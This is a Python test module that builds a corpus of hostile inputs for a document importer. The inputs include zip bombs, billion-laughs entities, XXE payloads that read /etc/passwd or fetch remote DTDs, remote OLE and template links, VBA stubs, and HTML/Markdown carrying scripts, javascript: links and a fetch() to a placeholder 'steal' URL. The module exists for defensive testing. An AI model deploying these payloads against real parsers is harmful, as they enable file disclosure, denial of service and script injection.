"""The hostile corpus: damaged, malicious and odd documents, generated at test time (no binaries committed).

`hostile_cases(url)` returns every case as a `Case`: a file name, its bytes, whether
an import must succeed or end in a clean error, and words that must or must not be
in the imported text. `url` goes into every remote reference (remote images,
linked templates, OLE objects, stylesheets, `@import`, iframes, XXE SYSTEM ids), so
a test can serve it from a loopback server and prove nothing was fetched.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from pathlib import Path

DEFAULT_URL = "http://127.0.0.1:9/"  # the discard port: nothing is expected to answer there

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

OK, ERROR = "ok", "error"


@dataclass(frozen=True)
class Case:
    """One hostile input and what a correct import of it is."""

    name: str
    filename: str
    data: bytes
    expect: str  # OK: exit 0 and a .policy; ERROR: exit 2, one line, nothing left behind
    present: tuple[str, ...] = ()  # words the imported text must hold
    absent: tuple[str, ...] = ()  # words it must not hold (active content, fetched or expanded text)
    error_words: tuple[str, ...] = ()  # words the one-line error must hold
    large: bool = False  # its DOCX export takes many seconds: only in the full run (ROBUSTNESS_FULL=1)

    def write(self, folder: Path) -> Path:
        path = folder / self.filename
        path.write_bytes(self.data)
        return path


# ----------------------------------------------------------------------------- DOCX building

def _paragraph(text: str, style: str = "") -> str:
    ppr = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{ppr}<w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def document_xml(body: str, doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
            f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}" '
            'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
            'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
            'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
            f"<w:body>{body}<w:sectPr/></w:body></w:document>")


PLAIN_BODY = (_paragraph("Safe policy", "Title") + _paragraph("Scope", "Heading1")
              + _paragraph("This policy covers SAFEWORD data."))


def baseline_docx() -> bytes:
    """A small valid DOCX (python-docx's default template) with a title, a heading and a paragraph."""
    import docx

    document = docx.Document()
    document.add_paragraph("Safe policy", style="Title")
    document.add_heading("Scope", level=1)
    document.add_paragraph("This policy covers SAFEWORD data.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(source: bytes, replace: dict[str, bytes | str] | None = None,
          add: dict[str, bytes | str] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A copy of the zip `source` with members replaced, added or dropped."""
    replace, add = dict(replace or {}), dict(add or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename in drop:
                continue
            data = replace.pop(item.filename, None)
            new.writestr(item.filename, old.read(item) if data is None else data)
        for name, data in {**replace, **add}.items():
            new.writestr(name, data)
    return out.getvalue()


def _relationship(rid: str, kind: str, target: str, external: bool) -> str:
    """One <Relationship>; `kind` is a full type URI or a name under the officeDocument types."""
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "://" in kind else RT + kind
    return f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{REL_NS}">{"".join(_relationship(*r) for r in rels)}</Relationships>')


def _document_rels(base: bytes, *extra: tuple[str, str, str, bool]) -> str:
    """word/_rels/document.xml.rels of `base` with `extra` relationships added."""
    text = _member(base, "word/_rels/document.xml.rels").decode("utf-8")
    added = "".join(_relationship(*r) for r in extra)
    return text.replace("</Relationships>", added + "</Relationships>")


def _laughs_doctype(root: str) -> str:
    """A billion-laughs DOCTYPE for the element `root`: &lol9; would expand to 10^9 'lol's."""
    lines = ['<!ENTITY lol "lol">']
    for i in range(1, 10):
        prev = "lol" if i == 1 else f"lol{i - 1}"
        lines.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
    return f"<!DOCTYPE {root} [{''.join(lines)}]>\n"


def _insert_doctype(xml: bytes, root: str, doctype: str, entity_ref: str, into: str) -> bytes:
    """`xml` with `doctype` after its declaration and `entity_ref` placed before `into` (a closing tag)."""
    text = xml.decode("utf-8")
    decl_end = text.index("?>") + 2 if text.startswith("<?xml") else 0
    text = text[:decl_end] + "\n" + doctype + text[decl_end:]
    if into:
        text = text.replace(into, entity_ref + into, 1)
    return text.encode("utf-8")


def _member(source: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        return archive.read(name)


def _zip_bomb_ratio(base: bytes) -> bytes:
    return rezip(base, add={"word/media/padding.bin": b"\0" * (16 * 1024 * 1024)})


def _zip_bomb_total(base: bytes) -> bytes:
    """Members each under the ratio floor, together far over the total limit (~260 MB)."""
    chunk = b"\0" * (1024 * 1024 - 1)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            new.writestr(item.filename, old.read(item))
        for i in range(260):
            new.writestr(f"word/media/pad{i:03d}.bin", chunk)
    return out.getvalue()


def _zip_lying_sizes(base: bytes) -> bytes:
    """document.xml inflates to 64 MB of spaces while its zip headers claim 1 KB."""
    huge = document_xml(_paragraph("LYINGWORD") + " " * (64 * 1024 * 1024)).encode("utf-8")
    data = rezip(base, replace={"word/document.xml": huge})
    # patch the uncompressed size in the local header and the central directory
    real = len(huge).to_bytes(4, "little")
    return data.replace(real, (1024).to_bytes(4, "little"))


def docx_cases(url: str) -> list[Case]:
    base = baseline_docx()
    cases = [
        Case("docx-baseline", "baseline.docx", base, OK, present=("SAFEWORD", "Scope")),
        Case("docx-not-a-zip", "not-a-zip.docx", b"This is plain text pretending to be Word.\n", ERROR,
             error_words=("not a Word document",)),
        Case("docx-empty", "empty.docx", b"", ERROR),
        Case("docx-truncated", "truncated.docx", base[: len(base) // 2], ERROR),
        Case("docx-truncated-tail", "truncated-tail.docx", base[:-30], ERROR),
        Case("docx-no-document-part", "no-document.docx", rezip(base, drop=("word/document.xml",)), ERROR),
        Case("docx-garbage-document-xml", "garbage-xml.docx",
             rezip(base, replace={"word/document.xml": b"<w:document><<<\x00\xff"}), ERROR),
        Case("docx-zip-bomb-ratio", "bomb-ratio.docx", _zip_bomb_ratio(base), ERROR,
             error_words=("zip bomb",)),
        Case("docx-zip-bomb-total", "bomb-total.docx", _zip_bomb_total(base), ERROR,
             error_words=("zip bomb",)),
        Case("docx-zip-lying-sizes", "bomb-lying.docx", _zip_lying_sizes(base), ERROR),
    ]
    # entity expansion and external entities, in document.xml and in other parts
    xxe = (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{url}xxe.txt">'
           '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>\n')
    cases.append(Case(
        "docx-xxe-document", "xxe.docx",
        rezip(base, replace={"word/document.xml": document_xml(
            PLAIN_BODY + _paragraph("before &xxe; &passwd; after"), xxe)}),
        OK, present=("SAFEWORD",), absent=("root:", "daemon")))
    # libxml2 refuses an entity that expands past its amplification limit: a clean error
    cases.append(Case(
        "docx-laughs-document", "laughs.docx",
        rezip(base, replace={"word/document.xml": document_xml(
            PLAIN_BODY + _paragraph("&lol9;"), _laughs_doctype("w:document"))}),
        ERROR, error_words=("damaged Word document",)))
    # the same DOCTYPE in other parts; only core.xml's entity is used (the others only declare it)
    for name, part, root, closing, used in (
            ("styles", "word/styles.xml", "w:styles", "</w:styles>", False),
            ("numbering", "word/numbering.xml", "w:numbering", "</w:numbering>", False),
            ("content-types", "[Content_Types].xml", "Types", "</Types>", False),
            ("rels", "word/_rels/document.xml.rels", "Relationships", "", False),
            ("core", "docProps/core.xml", "cp:coreProperties", "</dc:title>", True)):
        original = _member(base, part)
        if used and closing.encode() not in original:
            original = original.replace(b"</cp:coreProperties>",
                                        b"<dc:title>T</dc:title></cp:coreProperties>")
        cases.append(Case(
            f"docx-laughs-{name}", f"laughs-{name}.docx",
            rezip(base, replace={part: _insert_doctype(original, root, _laughs_doctype(root),
                                                       "&lol9;" if used else "", closing)}),
            ERROR if used else OK, present=() if used else ("SAFEWORD",), absent=("lollollol",),
            error_words=("damaged Word document",) if used else ()))
    cases.append(Case(
        "docx-xxe-styles", "xxe-styles.docx",
        rezip(base, replace={"word/styles.xml": _insert_doctype(
            _member(base, "word/styles.xml"), "w:styles",
            f'<!DOCTYPE w:styles [<!ENTITY % remote SYSTEM "{url}dtd"> %remote;]>\n', "", "")}),
        OK, present=("SAFEWORD",)))
    cases.append(Case(
        "docx-external-dtd", "external-dtd.docx",
        rezip(base, replace={"word/document.xml": document_xml(
            PLAIN_BODY, f'<!DOCTYPE w:document SYSTEM "{url}document.dtd">\n')}),
        OK, present=("SAFEWORD",)))

    # external relationships: a remote image (r:link and r:embed), a linked template, an OLE object
    image = ('<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="x"/>'
             '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
             '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
             '<pic:blipFill><a:blip r:link="rIdRemoteImg" r:embed="rIdRemoteImg2"/></pic:blipFill>'
             '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
    ole = ('<w:p><w:r><w:object><v:shape id="o1"><v:imagedata r:id="rIdRemoteImg"/></v:shape>'
           '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="o1" r:id="rIdOle" UpdateMode="Always"/>'
           '</w:object></w:r></w:p>')
    link = ('<w:p><w:hyperlink r:id="rIdJs"><w:r><w:t>JSLINKTEXT</w:t></w:r></w:hyperlink>'
            '<w:r><w:t xml:space="preserve"> and </w:t></w:r>'
            '<w:hyperlink r:id="rIdWeb"><w:r><w:t>WEBLINKTEXT</w:t></w:r></w:hyperlink></w:p>')
    field_js = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> HYPERLINK "javascript:alert(1)" </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>FIELDTEXT</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
                f'"{url}include.docx" </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>INCLUDED</w:t></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    rels = _document_rels(base, ("rIdRemoteImg", "image", f"{url}image.png", True),
                          ("rIdRemoteImg2", "image", f"{url}image2.png", True),
                          ("rIdOle", "oleObject", f"{url}sheet.xlsx", True),
                          ("rIdJs", "hyperlink", "javascript:alert(1)", True),
                          ("rIdWeb", "hyperlink", "https://example.com/policy", True),
                          ("rIdFrame", "frame", f"{url}frame.html", True),
                          ("rIdSub", "subDocument", f"{url}sub.docx", True))
    settings_rels = _rels(("rIdTpl", "attachedTemplate", f"{url}template.dotm", True))
    settings = _member(base, "word/settings.xml").replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rIdTpl"/></w:settings>')
    if b"xmlns:r=" not in settings.split(b">", 2)[1]:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R_NS}" '.encode(), 1)
    cases.append(Case(
        "docx-external-relationships", "external-rels.docx",
        rezip(base, replace={"word/document.xml": document_xml(PLAIN_BODY + image + ole + link + field_js),
                             "word/_rels/document.xml.rels": rels, "word/settings.xml": settings},
              add={"word/_rels/settings.xml.rels": settings_rels}),
        OK, present=("SAFEWORD", "JSLINKTEXT", "WEBLINKTEXT", "FIELDTEXT"), absent=("javascript",)))

    # macro-enabled: the main part typed as macro-enabled, with a VBA project beside it
    content_types = _member(base, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    content_types = content_types.replace(
        b"</Types>", b'<Override PartName="/word/vbaProject.bin" '
                     b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    macro = rezip(base, replace={
        "[Content_Types].xml": content_types,
        "word/_rels/document.xml.rels": _document_rels(
            base, ("rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                   "vbaProject.bin", False))},
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Sub AutoOpen()\x00" * 64})
    # decided: macro-enabled documents are refused with a clear sentence, by suffix or by content type
    cases.append(Case("docm-macro-enabled", "macros.docm", macro, ERROR, error_words=("macro-enabled",)))
    cases.append(Case("docx-macro-enabled-renamed", "macros-renamed.docx", macro, ERROR,
                      error_words=("macro-enabled",)))
    return cases


# ----------------------------------------------------------------------------- HTML and Markdown

def _active_html(url: str) -> str:
    return f"""<!DOCTYPE html>
<html><head><title>Hostile page</title>
<link rel="stylesheet" href="{url}style.css">
<style>@import url("{url}import.css"); body {{ background: url({url}bg.png); }}</style>
<script src="{url}evil.js"></script>
<script>document.write("SCRIPTWORD"); fetch("{url}steal")</script>
<meta http-equiv="refresh" content="0; url={url}refresh">
<base href="{url}">
</head>
<body onload="alert('ONLOADWORD')">
<h1>Hostile page</h1>
<h2 onclick="alert(1)">Scope</h2>
<p onmouseover="alert(2)">This policy covers SAFEWORD data.
<a href="javascript:alert('JSWORD')">a js link</a>, <a href="JaVaScRiPt:alert(3)">mixed case</a>,
<a href=" javascript:alert(4)">spaced</a>, <a href="vbscript:msgbox(5)">vb</a>,
<a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">data</a>,
<a href="https://example.com/ok">a good link</a>.</p>
<img src="{url}remote.png" onerror="alert('IMGWORD')" alt="ALTWORD">
<picture><source srcset="{url}pic.webp"><img src="{url}pic.png"></picture>
<iframe src="{url}frame.html">IFRAMEWORD</iframe>
<form action="{url}post"><input name="FORMWORD" value="INPUTWORD"><button>BUTTONWORD</button></form>
<object data="{url}x.swf">OBJECTWORD</object><embed src="{url}x.swf">
<svg><script>alert('SVGSCRIPT')</script><image href="{url}svg.png"/></svg>
<video src="{url}v.mp4" poster="{url}poster.png">VIDEOWORD</video>
<audio src="{url}a.mp3"></audio>
<div style="background-image: url({url}div.png)">Styled words stay.</div>
</body></html>
"""


def _active_markdown(url: str) -> str:
    return f"""# Hostile markdown

## Scope

This policy covers SAFEWORD data.

<script>alert("SCRIPTWORD")</script>

<iframe src="{url}frame.html"></iframe>

<style>@import url("{url}import.css");</style>

<link rel="stylesheet" href="{url}style.css">

<img src="{url}raw.png" onerror="alert('IMGWORD')">

Inline <span onclick="alert(1)">handler</span> and <a href="javascript:alert(2)">raw js link</a>.

[a js link](javascript:alert('JSWORD')) and [data](data:text/html;base64,PHNjcmlwdD4=)
and [vb](vbscript:msgbox) and [good](https://example.com/ok).

![remote image]({url}remote.png)

<form action="{url}post"><input value="INPUTWORD"></form>

[ref]: {url}ref
"""


def html_cases(url: str) -> list[Case]:
    never = ("SCRIPTWORD", "ONLOADWORD", "JSWORD", "IMGWORD", "ALTWORD", "IFRAMEWORD", "FORMWORD",
             "INPUTWORD", "BUTTONWORD", "OBJECTWORD", "SVGSCRIPT", "VIDEOWORD", "javascript", "@import",
             "alert(")
    nested = "<h1>Deep</h1>" + "<div><span><b>" * 3_400 + "DEEPWORD" + "</b></span></div>" * 3_400
    headings = "".join(f"<h{1 + i % 6}>Heading {i}</h{1 + i % 6}><p>Text {i}.</p>" for i in range(5_000))
    unclosed = "<h1>Open</h1>" + "<p><b><i><u><a href='https://x.example'>" * 5_000 + "OPENWORD"
    return [
        Case("html-active-content", "active.html", _active_html(url).encode(), OK,
             present=("SAFEWORD", "Scope", "Styled words stay"), absent=never),
        Case("html-10000-nested", "nested.html", nested.encode(), OK, present=("DEEPWORD",)),
        Case("html-5000-headings", "headings.html", headings.encode(), OK,
             present=("Heading 4999", "Text 4999."), large=True),
        Case("html-5000-unclosed", "unclosed.html", unclosed.encode(), OK, present=("OPENWORD",)),
        Case("html-empty", "empty.html", b"", OK),
        Case("html-binary", "binary.html", bytes(range(256)) * 64, ERROR),
        Case("html-broken-markup", "broken.html",
             b"<h1>Broken</h1><p>BROKENWORD<!-- unterminated <![CDATA[ x <a href='", OK,
             present=("BROKENWORD",)),
        Case("md-active-content", "active.md", _active_markdown(url).encode(), OK,
             present=("SAFEWORD", "Scope", "good"),
             absent=("javascript", "JSWORD", "IMGWORD", "vbscript", "data:text")),
        Case("md-10000-nested", "nested.md",
             ("> " * 10_000 + "QUOTEWORD\n\n"
              + "".join("  " * i + f"- item{i}\n" for i in range(2_000))).encode(),
             OK, present=("QUOTEWORD", "item1999")),
        Case("md-5000-headings", "headings.md",
             "".join(f"{'#' * (1 + i % 6)} Heading {i}\n\nText {i}.\n\n" for i in range(5_000)).encode(), OK,
             present=("Heading 4999",), large=True),
        Case("md-emphasis-storm", "emphasis.md", ("*_" * 20_000 + "STORMWORD" + "[" * 20_000).encode(), OK,
             present=("STORMWORD",)),
    ]


# ----------------------------------------------------------------------------- text

def text_cases() -> list[Case]:
    cp1252 = "Scope\n\nThe employee\u2019s \u201cdata\u201d \u2013 na\u00efve caf\u00e9 \u20ac5.\n"
    rtl = ("\u0627\u0644\u0633\u064a\u0627\u0633\u0629\n\n"
           "\u0647\u0630\u0647 \u0633\u064a\u0627\u0633\u0629 "
           "\u0627\u0644\u062e\u0635\u0648\u0635\u064a\u0629. "
           "\u05d6\u05d5 \u05de\u05d3\u05d9\u05e0\u05d9\u05d5\u05ea \u05e4\u05e8\u05d8\u05d9\u05d5\u05ea.\n"
           "\u202eRLO override\u202c and \u2067isolate\u2069 marks.\n")
    combining = ("Scope\n\nZ\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319 "
                 "a\u0301 e\u0300\u0304 \u1100\u1161\u11a8 n\u0303\u0303\u0303\u0303\u0303 text.\n")
    emoji = ("Scope\n\nFamily \U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466, flag \U0001F3F3"
             "\ufe0f\u200d\U0001F308, skin \U0001F44D\U0001F3FD, keycap 1\ufe0f\u20e3, tag flag "
             "\U0001F3F4\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F.\n")
    controls = "Scope\n\nCTRLWORD " + "".join(chr(c) for c in range(1, 32) if c not in (10, 13)) \
        + "\x7f\u0085\u2028\u2029\ufeff\ufffe end.\n"
    words = ("word " * 15 + "end.\n\n") * 18_750  # 300,000 words in 18,750 paragraphs
    return [
        Case("txt-empty", "empty.txt", b"", OK),
        Case("txt-whitespace", "blank.txt", b" \n\t\n\r\n   \n", OK),
        Case("txt-binary", "binary.txt", bytes(range(256)) * 256, ERROR, error_words=("binary",)),
        Case("txt-nul", "nul.txt", b"Scope\n\nNULWORD\x00 text.\n", ERROR, error_words=("binary",)),
        Case("txt-png-renamed", "picture.txt", b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x01" * 200,
             ERROR),
        Case("txt-cp1252", "legacy.txt", cp1252.encode("cp1252"), OK,
             present=("employee\u2019s", "\u201cdata\u201d", "\u2013", "na\u00efve", "\u20ac5")),
        Case("txt-utf16", "utf16.txt", cp1252.encode("utf-16"), OK, present=("\u20ac5",)),
        Case("txt-controls", "controls.txt", controls.encode("utf-8"), OK, present=("CTRLWORD", "end.")),
        Case("txt-rtl", "rtl.txt", rtl.encode("utf-8"), OK,
             present=("\u05e4\u05e8\u05d8\u05d9\u05d5\u05ea",)),
        Case("txt-combining", "combining.txt", combining.encode("utf-8"), OK,
             present=("n\u0303\u0303\u0303\u0303\u0303",)),
        Case("txt-emoji", "emoji.txt", emoji.encode("utf-8"), OK,
             present=("\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466",)),
        Case("txt-300000-words", "huge.txt", words.encode("ascii"), OK, large=True),
        Case("txt-one-long-line", "long-line.txt", ("x" * 2_000_000).encode(), OK, large=True),
        Case("unknown-suffix", "policy.rtf", b"{\\rtf1 hello}", ERROR, error_words=("cannot be imported",)),
        Case("no-suffix", "README", b"hello", ERROR, error_words=("cannot be imported",)),
    ]


def hostile_cases(url: str = DEFAULT_URL) -> list[Case]:
    """Every case of the hostile corpus, with `url` (ending in '/') in each remote reference."""
    return docx_cases(url) + html_cases(url) + text_cases()
